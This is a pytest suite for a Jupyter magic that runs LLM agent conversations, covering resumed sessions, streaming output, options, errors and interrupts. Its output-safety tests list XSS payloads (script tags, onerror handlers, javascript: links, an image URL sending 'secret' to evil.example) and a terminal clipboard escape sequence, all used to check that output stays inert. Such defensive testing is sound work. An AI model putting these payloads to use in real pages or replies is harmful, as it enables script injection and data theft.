"""``%%dexto`` in real kernels."""

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from dexto_magic import DextoAgent
from tests.support.agents import asking
from tests.support.hostile import HOSTILE
from tests.support.html_safety import assert_inert
from tests.support.openai_answers import WAIT, cut, held, silent, status, text


def history(home, session_id):
    with DextoAgent(store=home) as agent:
        return [
            (m.role, m.content, m.status, m.reason) for m in agent.get_session_history(session_id)
        ]


# -- the main job ----------------------------------------------------------------------------------


def test_a_killed_kernels_conversation_goes_on_in_a_new_one(start):
    first = start()
    assert first.ask("My name is Sarah.", "eda").ok
    first.kill()
    second = start()
    ran = second.ask("What is my name?", "eda")
    assert ran.output.text == "Your name is Sarah."
    assert "resumed 1 turn, last on 20" in ran.output.html
    ran = second.ask("What is my name?", "other")
    assert ran.output.text == "I don't have that information."


def test_a_turn_that_was_cut_by_a_kill_is_there_with_what_had_arrived(start, server, tmp_path):
    server.script(text("The beginning of it", WAIT, "never sent"))
    first = start(**asking(server))
    asked = first.begin("%%dexto eda\nTell me.", cell_id="c1")
    cut_off = first.end(
        asked, until=lambda ran: any("The beginning" in o.html for o in ran.outputs)
    ).output
    assert "<code>%dexto history eda</code>" in cut_off.html, "as the saved file will have it"
    assert cut_off.metadata == {"dexto": {"session": "eda"}}
    with DextoAgent("practice", store=tmp_path / "home") as other:
        while not other._agent._store._engine._ledger._table.keys("p:", "p;", limit=1):
            pass
    first.kill()
    second = start(**asking(server))
    shown = second.run("%dexto history eda").output
    assert "The beginning of it" in shown.html
    assert "cut short by a crash" in shown.html
    assert second.ask("Go on.", "eda").ok
    assert [status for _, _, status, _ in history(tmp_path / "home", "eda")] == [
        "complete",
        "stopped",
        "complete",
        "complete",
    ]


TUTORIAL = """
agent = {kind}(llm="practice")
{start}
session = {a}agent.create_session()
{a}agent.generate("My name is Sarah.", session.id)
response = {a}agent.generate("What is my name?", session.id)
print(response.content)
new_session = {a}agent.create_session()
response = {a}agent.generate("What is my name?", new_session.id)
print(response.content)
{a}agent.stop()
"""


@pytest.mark.parametrize(
    ("kind", "a"), [("AsyncDextoAgent", "await "), ("DextoAgent", "")], ids=["async", "blocking"]
)
def test_the_tutorials_conversation_runs_in_a_cell_with_either_agent(shared, kind, a):
    """The asynchronous one by top-level await, as the tutorial has it."""
    code = TUTORIAL.format(kind=kind, a=a, start=f"{a}agent.start()")
    ran = shared.run(f"from dexto_magic import {kind}{code}")
    assert ran.stream == "Your name is Sarah.\nI don't have that information.\n"


def test_two_kernels_on_one_store_take_turns_and_the_busy_one_is_named(start, server, tmp_path):
    server.script(held(text("first answer")))
    one, two = start(**asking(server)), start(**asking(server))
    first = one.begin("%%dexto eda\none", cell_id="c1")
    server.wait_for_request()
    second = two.begin("%%dexto eda\ntwo", cell_id="c2")
    waiting = two.end(second, until=lambda ran: any("waiting" in o.html for o in ran.outputs))
    assert f"process {one.pid} on " in waiting.output.html
    server.release()
    assert one.end(first).ok
    assert two.end(second, waiting).ok
    assert [content for _, content, _, _ in history(tmp_path / "home", "eda")][:3] == [
        "one",
        "first answer",
        "two",
    ]


# -- output ----------------------------------------------------------------------------------------


def test_a_reply_is_one_output_with_the_original_in_the_saved_file(shared):
    ran = shared.ask("Show me a table.", "table")
    output = ran.output
    assert set(output.data) == {"text/html", "text/markdown", "text/plain"}
    assert output.data["text/markdown"] == output.text
    assert output.text.startswith("| planet |")
    assert "<table>" in output.html
    assert "table · turn 1 · practice · " in output.html
    assert output.metadata["dexto"]["session"] == "table"
    assert output.metadata["dexto"]["turn"] == 1
    assert output.metadata["dexto"]["model"] == "practice"
    assert output.metadata["dexto"]["usage"]["output_tokens"] > 0
    assert not [m for m in ran.messages if m["msg_type"] == "execute_result"]


def test_a_reply_streams_into_its_output_and_ends_whole(start, server):
    """Far fewer updates than tokens, HTML alone on the way, and always one last update."""
    words = [f"word{n} " for n in range(2000)]
    server.script(text(*words))
    kernel = start(**asking(server))
    ran = kernel.ask("Go.", "eda")
    assert ran.output.text == "".join(words)
    assert "word1999" in ran.output.html
    assert len(ran.updates) < 200
    assert all(set(u["content"]["data"]) == {"text/html"} for u in ran.updates[:-1])
    size = sum(len(json.dumps(m["content"])) for m in ran.messages)
    assert size < 150 * len("".join(words))


def test_what_would_drive_a_terminal_is_kept_and_not_given_to_consoles(shared):
    """A console prints the plain form as it is."""
    shared.run("prompt = 'Repeat after me: \\x1b]52;c;ZXZpbA==\\x07a\\x1b[31mb'")
    code = "get_ipython().run_cell_magic('dexto', 'console', prompt)"
    output = shared.run(code, cell_id=None).output
    assert output.data["text/markdown"] == "\x1b]52;c;ZXZpbA==\x07a\x1b[31mb"
    assert output.text == "ab"


def test_where_no_cell_id_is_sent_the_reply_is_displayed_once_at_the_end(shared):
    """Consoles and nbclient: a front end that does not follow updates gets the whole."""
    ran = shared.ask("Show me a table.", "console", cell_id=None)
    assert [m["msg_type"] for m in ran.messages] == ["display_data"]
    assert ran.output.text.startswith("| planet |")


def test_the_line_below_a_reply_can_be_switched_off(shared):
    shared.run("%config DextoMagics.footer = False")
    assert "turn 1 ·" not in shared.ask("Hello.", "plain").output.html
    shared.run("%config DextoMagics.footer = True")
    assert "turn 2 ·" in shared.ask("Hello.", "plain").output.html


def test_reasoning_is_shown_collapsed_and_not_in_the_original(start, server):
    server.script(text("42", reasoning="Let me <think>."))
    ran = start(**asking(server)).ask("Go.", "eda")
    assert "<details><summary>reasoning</summary>" in ran.output.html
    assert "Let me &lt;think&gt;." in ran.output.html
    assert ran.output.text == "42"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A kernel whose model says whatever it is asked to repeat."""
    from tests.support.kernels import kernel

    with kernel(DEXTO_HOME=str(tmp_path_factory.mktemp("hostile"))) as running:
        yield running


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![x](https://evil.example/?d=secret)",
        "<iframe src=https://evil.example></iframe>",
        "<div style='background:url(https://evil.example)'>x</div>",
    ],
)
def test_a_hostile_reply_holds_nothing_active_in_the_cell_or_the_history(hostile, payload):
    ran = hostile.ask(f"Repeat after me: {payload}", "hostile")
    assert ran.output.data["text/markdown"] == payload
    for message in ran.messages:
        assert_inert(message["content"]["data"]["text/html"])
    assert_inert(hostile.run("%dexto history hostile").output.html)


def test_every_known_payload_in_one_reply_is_inert_while_it_streams(start, server):
    server.script(text(*[payload + "\n\n" for payload in HOSTILE]))
    ran = start(**asking(server)).ask("Go.", "eda")
    for message in ran.messages:
        assert_inert(message["content"]["data"]["text/html"])


def test_a_prompt_arrives_unchanged(start, server):
    """Nothing of it is taken for a variable, a shell escape or an f-string."""
    prompt = (
        "{x} {{y}} $HOME {1+1} %d !ls ?\n  \\frac{a}{b} 🎉 'open \"quotes\n\n%dexto ask no?\n\ttab"
    )
    kernel = start(**asking(server))
    kernel.run("x = y = HOME = 'replaced'")
    assert kernel.ask(prompt, "eda").ok
    assert server.chats[0].body["messages"][-1]["content"] == prompt


def test_a_question_may_be_assigned_to_anything_and_go_on_in_the_next_line(shared):
    code = """
    kept = {}
    kept["name"] = %dexto ask Repeat after me: What is a name?
    kept["more"] = %dexto ask Repeat after me: one \\
    two?
    print([reply.content for reply in kept.values()])
    """
    assert shared.run(code).stream == "['What is a name?', 'one  two?']\n"


def test_a_reply_in_one_piece_is_one_output_and_what_it_waits_for_is_shown_at_once(start, server):
    server.script(status(429, "Slow down.", headers={"retry-after": "0"}), held(text("All of it.")))
    kernel = start(**asking(server))
    asked = kernel.begin("%%dexto eda --no-stream\nGo.", cell_id="c1")
    waiting = kernel.end(asked, until=lambda r: any("asking again" in o.html for o in r.outputs))
    assert "answering…" in waiting.output.html
    server.release()
    ran = kernel.end(asked, waiting)
    assert ran.output.text == "All of it."
    assert "asking again" in ran.output.html
    assert server.chats[-1].body.get("stream") is not True


def test_an_interrupt_while_the_end_is_rendered_leaves_the_reply_whole(start, server):
    server.script(text("All of it."))
    kernel = start(**asking(server))
    kernel.run(
        "import os, signal, dexto_magic.jupyter.display as display\n"
        "display.to_html = lambda text: os.kill(os.getpid(), signal.SIGINT)"
    )
    ran = kernel.ask("Go.", "eda")
    assert ran.error.startswith("KeyboardInterrupt: ")
    assert ran.output.text == "All of it."
    assert "answering…" not in ran.output.html


def test_backticks_and_money_in_a_system_prompt_are_shown_as_they_are(shared):
    shared.run("%dexto new backticks")
    for line in ("%dexto system use `%dexto x` and $y$", "%dexto system"):
        output = shared.run(line).output
        assert "use `%dexto x` and " in output.html
        assert "use `%dexto x` and $y$" in output.text


# -- options ---------------------------------------------------------------------------------------


def test_the_reply_is_bound_and_can_be_taken_quietly(shared):
    ran = shared.ask("My name is Sarah.", "bound", options="-o answer")
    assert ran.output.text == "Nice to meet you, Sarah."
    assert (
        shared.value("(answer.content, answer is _dexto)") == "('Nice to meet you, Sarah.', True)"
    )
    ran = shared.ask("What is my name?", "bound", options="-q -o answer")
    assert ran.messages == []
    assert shared.value("answer.content") == "'Your name is Sarah.'"


def test_options_of_the_line_reach_the_model(start, server):
    kernel = start(**asking(server))
    options = "-m openai:gpt-4.1 -s 'be \"brief\", please' -O temperature=0 -O stop='[\"a b\"]'"
    assert kernel.ask("Go.", "eda", options=f"{options} -O user=me").ok
    body = server.chats[0].body
    assert (body["model"], body["temperature"], body["stop"]) == ("gpt-4.1", 0, ["a b"])
    assert body["user"] == "me"
    assert body["messages"][0] == {"role": "system", "content": 'be "brief", please'}
    assert kernel.ask("Again.", "eda", options="--no-stream").ok
    assert server.chats[1].body.get("stream") is not True
    assert server.chats[1].body["model"] == "gpt-4o-mini", "the options were for one turn"


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("%%dexto eda --modle x\nhi", "did you mean --model?"),
        ("%%dexto eda extra\nhi", "unknown argument 'extra'"),
        ("%%dexto 'eda\nhi", "No closing quotation"),
        ("%%dexto eda -o 1x\nhi", "-o takes the name of a variable"),
        ("%%dexto eda -O x\nhi", "-O takes KEY=VALUE"),
        ("%%dexto eda\n  \n", "no prompt"),
        ("%dexto histroy", "did you mean `%dexto history`?"),
        ("%dexto What is that?", "to ask: `%dexto ask What is that?`"),
        ("%dexto delete", "the following arguments are required: NAME"),
        ("%dexto history a b", "unknown argument 'b'"),
        ("%dexto sessions -n many", "argument -n/--number: "),
    ],
)
def test_a_line_that_makes_no_sense_is_a_usage_error_that_sends_nothing(shared, line, words):
    ran = shared.run(line)
    assert not ran.ok
    assert (ran.reply["ename"], words in ran.stream) == ("UsageError", True), ran.stream
    assert ran.outputs == []


@pytest.mark.parametrize("verb", ["sessions", "history eda"])
def test_a_negative_number_is_refused_and_its_option_named(shared, verb):
    shared.ask("Hello.", "eda")
    ran = shared.run(f"%dexto {verb} -n -1")
    assert not ran.ok
    said = json.dumps([message["content"] for message in ran.messages])
    assert re.search("-n.* whole number of 0 or more", said)
    assert ran.outputs == []


# -- errors ----------------------------------------------------------------------------------------


def test_a_providers_error_is_a_line_that_fails_the_cell_and_shows_no_key(start, server):
    kernel = start(**asking(server))
    server.script(status(401, "Incorrect API key provided: sk-test-0123456789abcdef"))
    ran = kernel.ask("Go.", "eda")
    assert not ran.ok
    assert ran.error.startswith("ModelAuthenticationError: openai (gpt-4o-mini)")
    assert len(ran.error.splitlines()) <= 2
    assert "sk-test" not in json.dumps([m["content"] for m in ran.messages]) + str(ran.reply)


def test_a_reply_cut_half_way_stays_in_view_with_its_mark(start, server):
    server.script(cut("The answer ", "is"))
    ran = start(**asking(server)).ask("Go.", "eda")
    assert not ran.ok
    assert ran.error.startswith("ModelUnavailableError: ")
    assert "The answer is" in ran.output.html
    assert "cut short: error" in ran.output.html
    assert "answering…" not in ran.output.html
    assert ran.output.text == "The answer is"


def test_a_line_that_was_shown_before_an_error_does_not_promise_an_answer(start, server):
    server.script(status(429, "Slow down.", headers={"retry-after": "0"}), status(401, "No."))
    ran = start(**asking(server)).ask("Go.", "eda")
    assert not ran.ok
    assert "asking again" in ran.output.html
    assert "answering…" not in ran.output.html


def test_an_error_keeps_its_class_for_a_program_that_catches_it(shared):
    code = """
    from dexto_magic import ModelRateLimitError
    try:
        get_ipython().run_cell_magic("dexto", "caught -m practice:rate-limit", "hi")
    except ModelRateLimitError as error:
        print(error.retry_after)
    """
    assert shared.run(code).stream == "1.0\n"


def test_a_session_name_that_cannot_be_is_said_so(shared):
    ran = shared.ask("hi", "'a\u202eb'")
    assert not ran.ok
    assert ran.error.startswith("InvalidSessionIdError: ")
    assert "U+202E" in ran.error


def test_a_missing_key_names_the_ways_out(start):
    ran = start(DEXTO_MODEL="", OLLAMA_HOST="127.0.0.1:1").ask("hi", "eda")
    assert not ran.ok
    for way in ("OPENAI_API_KEY", "%dexto key", "%dexto model practice"):
        assert way in ran.error


def test_a_store_that_cannot_be_made_is_named(start, tmp_path):
    (tmp_path / "file").write_text("in the way")
    ran = start(DEXTO_HOME=str(tmp_path / "file" / "store")).ask("hi", "eda")
    assert not ran.ok
    assert ran.error.startswith("StoreError: ")
    assert "DEXTO_HOME" in ran.error


def test_an_unknown_model_is_named(shared):
    ran = shared.ask("hi", "eda", options="-m practice:nonsense")
    assert not ran.ok
    assert ran.error.startswith("ModelRequestError: ")
    assert "nonsense" in ran.error


# -- interrupts ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "content"),
    [
        (silent(), ""),
        (silent("The beginning"), "The beginning"),
        (text(*["word "] * 100_000, delay=0.001), "word "),
    ],
    ids=["nothing sent", "silent in mid-stream", "sending"],
)
def test_an_interrupt_ends_the_turn_keeps_what_came_and_stops_run_all(
    start, server, tmp_path, answer, content
):
    server.script(answer)
    kernel = start(**asking(server))
    asked = kernel.begin("%%dexto eda\nGo.", cell_id="c1")
    queued = kernel.begin("print('ran')", cell_id="c2")
    server.wait_for_request()
    ran = kernel.end(
        asked, until=lambda ran: not content or any(content in o.html for o in ran.outputs)
    )
    kernel.interrupt()
    ran = kernel.end(asked, ran)
    assert not ran.ok
    assert ran.error.startswith("KeyboardInterrupt: ")
    server.wait_for_disconnect()
    assert kernel.end(queued).reply["status"] == "aborted"
    reply = history(tmp_path / "home", "eda")[1]
    assert reply[2:] == ("stopped" if content else "failed", "interrupted")
    if content:
        assert reply[1].startswith(content)
        assert ran.output.text == reply[1]
        assert "cut short: interrupted" in ran.output.html
    assert kernel.ask("My name is Sarah.", "eda").output.text == "Nice to meet you, Sarah."


def test_an_interrupt_ends_the_wait_for_a_busy_session(start, server):
    server.script(held(text("first")))
    one, two = start(**asking(server)), start(**asking(server))
    first = one.begin("%%dexto eda\none", cell_id="c1")
    server.wait_for_request()
    second = two.begin("%%dexto eda\ntwo", cell_id="c2")
    waiting = two.end(second, until=lambda ran: any("waiting" in o.html for o in ran.outputs))
    two.interrupt()
    assert two.end(second, waiting).error.startswith("KeyboardInterrupt: ")
    server.release()
    assert one.end(first).ok
    assert len(server.chats) == 1


def test_an_interrupt_reaches_a_call_of_the_blocking_agent(start, server, tmp_path):
    server.script(silent("The beginning"))
    kernel = start(**asking(server))
    asked = kernel.begin(
        "from dexto_magic import DextoAgent\n"
        "agent = DextoAgent(); agent.start(); agent.create_session('api')\n"
        "agent.generate('Go.', 'api')"
    )
    server.wait_for_request()
    kernel.interrupt()
    assert "KeyboardInterrupt" in kernel.end(asked).error
    server.wait_for_disconnect()
    assert history(tmp_path / "home", "api")[1][3] == "interrupted"


# -- loading ---------------------------------------------------------------------------------------


def test_loading_is_silent_repeatable_and_undone_by_unloading(start):
    kernel = start()
    assert kernel.run("%reload_ext dexto_magic").messages == []
    assert kernel.ask("Hello.", "eda").ok
    ran = kernel.run("%unload_ext dexto_magic")
    assert (ran.ok, ran.messages) == (True, [])
    assert "not found" in kernel.run("%dexto").stream
    left = kernel.value(
        "[c for c in get_ipython().configurables if 'Dexto' in type(c).__name__]"
        " + get_ipython().input_transformers_cleanup[4:]"
    )
    assert left == "[]"
    assert kernel.run("%load_ext dexto_magic").ok
    assert kernel.ask("Hello.", "eda").ok


def test_loading_imports_neither_openai_nor_ipywidgets():
    code = """
import sys
from IPython.testing.globalipapp import start_ipython
shell = start_ipython()
before = set(sys.modules)
shell.run_line_magic("load_ext", "dexto_magic")
heavy = ("openai", "httpx2", "ipywidgets", "anywidget", "diskcache", "anyio", "pygments", "nh3")
print(sorted({name.split(".")[0] for name in set(sys.modules) - before} & set(heavy)))
"""
    ran = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=Path.cwd()
    )
    assert ran.stdout.splitlines()[-1] == "[]"


def test_importing_the_package_imports_next_to_nothing():
    code = "import sys, dexto_magic; print(sorted(m for m in sys.modules if 'dexto' in m))"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert ran.stdout == "['dexto_magic']\n"
